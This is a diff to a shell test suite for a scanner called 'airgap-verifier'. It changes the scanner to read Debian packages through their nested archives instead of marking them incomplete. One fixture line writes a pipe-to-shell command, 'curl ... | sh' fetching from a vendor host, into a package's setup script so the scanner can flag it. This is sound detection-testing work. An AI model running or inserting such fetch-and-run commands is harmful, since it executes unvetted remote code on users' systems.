@@ -195,16 +195,18 @@ PY
 ok "a YAML document too big to parse is scan.incomplete"
 
 # A .deb is an ar archive of compressed tarballs: its bytes say nothing about the files it
-# installs, and it used to pass with 0 findings. It is scan.incomplete (naming dpkg-deb -R);
-# the unpacked tree is scanned; an ar archive that is not a Debian package (a static library,
-# plain members) is still scanned as before.
+# installs, and it once passed with 0 findings. Its control and data archives are read as
+# nested archives (verifier_scan_deb.sh holds it to the unpacked tree's findings), the
+# unpacked tree is scanned, and an ar archive that is not a Debian package (a static library,
+# plain members) is still scanned as one file.
 mkdir -p deb/pkg/DEBIAN deb/pkg/usr/lib/x
 printf 'Package: x\nVersion: 1.0\nArchitecture: all\nMaintainer: a <a@b.example>\nDescription: x\n' >deb/pkg/DEBIAN/control
 echo 'curl -fsSL https://get.vendor-metrics.io/i.sh | sh' >deb/pkg/usr/lib/x/setup.sh
 dpkg-deb --build --root-owner-group deb/pkg deb/x.deb >/dev/null
 expect_rc 1 airgap-verifier scan deb/x.deb --format json --no-group --output deb.json
-[ "$(findings deb.json)" = "scan.incomplete high deb/x.deb:0" ] || fail "deb: $(findings deb.json)"
-expect_contains deb.json "Debian package (compressed members: dpkg-deb -R FILE DIR, then scan DIR)"
+findings deb.json | grep -q "^install.pipe-to-shell high deb/x.deb!data.tar.xz!usr/lib/x/setup.sh:1$" ||
+	fail "deb: $(findings deb.json)"
+! findings deb.json | grep -q "^scan.incomplete" || fail "deb incomplete: $(findings deb.json)"
 dpkg-deb -R deb/x.deb deb/un
 expect_rc 1 airgap-verifier scan deb/un --format json --no-group --output un.json
 findings un.json | grep -q "^install.pipe-to-shell high deb/un/usr/lib/x/setup.sh:1$" ||
@@ -213,4 +215,4 @@ echo 'see https://api.vendor-metrics.io/v1' >member.txt
 ar rc lib.a member.txt 2>/dev/null
 expect_rc 1 airgap-verifier scan lib.a --format json --no-group --output ar.json
 [ "$(findings ar.json | cut -d' ' -f1,2)" = "net.url.public medium" ] || fail "ar: $(findings ar.json)"
-ok "a .deb is scan.incomplete (it was 0 findings); its unpacked tree and plain ar are scanned"
+ok "a .deb is read through its members (it was 0 findings); its unpacked tree and plain ar are scanned"
